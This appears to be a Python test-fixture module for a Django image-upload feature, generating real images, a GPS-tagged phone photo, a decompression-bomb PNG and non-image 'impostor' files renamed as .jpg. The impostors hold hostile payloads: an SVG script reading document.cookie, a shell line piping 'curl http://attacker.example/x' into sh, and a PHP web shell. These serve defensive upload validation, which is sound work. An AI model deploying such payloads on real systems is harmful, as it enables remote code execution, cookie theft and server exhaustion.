"""Real files, made on the spot, for every kind of upload an editor (or an attacker) may send."""

import io
import struct
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image

GPS_LATITUDE = (30.0, 2.0, 0.0)  # central Cairo, the kind of thing that must not leak
XMP_WITH_GPS = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description '
    b'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="30,2.0N"/>'
    b"</rdf:RDF></x:xmpmeta>"
)


def image_bytes(pillow_format="JPEG", size=(640, 360), color=(120, 30, 30), mode="RGB", **save):
    buffer = io.BytesIO()
    Image.new(mode, size, color).save(buffer, format=pillow_format, **save)
    return buffer.getvalue()


def upload(name: str, content: bytes, content_type="image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def jpeg(name="photo.jpg", **kwargs) -> SimpleUploadedFile:
    return upload(name, image_bytes("JPEG", **kwargs))


def png(name="chart.png", **kwargs) -> SimpleUploadedFile:
    return upload(name, image_bytes("PNG", **kwargs), "image/png")


def webp(name="photo.webp", **kwargs) -> SimpleUploadedFile:
    return upload(name, image_bytes("WEBP", **kwargs), "image/webp")


def gif(name="anim.gif", **kwargs) -> SimpleUploadedFile:
    return upload(name, image_bytes("GIF", mode="P", color=3, **kwargs), "image/gif")


def camera_jpeg(name="phone.jpg", orientation=6) -> SimpleUploadedFile:
    """A phone photo stored sideways (60×40, top half red, bottom half blue) with an EXIF
    orientation saying "turn me 90° clockwise", GPS coordinates, XMP and a comment."""
    image = Image.new("RGB", (60, 40), (0, 0, 255))
    image.paste((255, 0, 0), (0, 0, 60, 20))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "NewsroomPhone"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps.update({1: "N", 2: GPS_LATITUDE, 3: "E", 4: (31.0, 14.0, 0.0)})
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", quality=95, exif=exif, xmp=XMP_WITH_GPS, comment=b"Cairo")
    return upload(name, buffer.getvalue())


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def decompression_bomb_png(name="bomb.png", width=100_000, height=100_000) -> SimpleUploadedFile:
    """A few hundred bytes that declare billions of pixels: decoding it would eat the server."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    # Rows of zeros compress to almost nothing; a real bomb would hold them all.
    data = zlib.compress(b"\x00" * (1 + 3 * 1000) * 10, 9)
    content = (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", data)
        + _png_chunk(b"IEND", b"")
    )
    return upload(name, content, "image/png")


def truncated(upload_file: SimpleUploadedFile, keep: float = 0.6) -> SimpleUploadedFile:
    content = upload_file.read()
    return upload(upload_file.name, content[: int(len(content) * keep)], upload_file.content_type)


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>"
)
HTML_PAGE = b"<!DOCTYPE html><html><body><script>fetch('/admin/')</script></body></html>"
PDF_DOCUMENT = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"
PHP_SCRIPT = b"<?php system($_GET['c']); ?>"

IMPOSTORS = {
    "svg": SVG_WITH_SCRIPT,
    "html": HTML_PAGE,
    "pdf": PDF_DOCUMENT,
    "shell script": SHELL_SCRIPT,
    "php script": PHP_SCRIPT,
}


def impostor(kind: str) -> SimpleUploadedFile:
    """Something that is not an image, renamed to look like one."""
    return upload(f"{kind.replace(' ', '-')}.jpg", IMPOSTORS[kind])


def files_in(folder) -> list[str]:
    """Every file under a media folder, as relative paths (what a refusal must leave: none)."""
    if not folder.exists():
        return []
    return sorted(str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file())
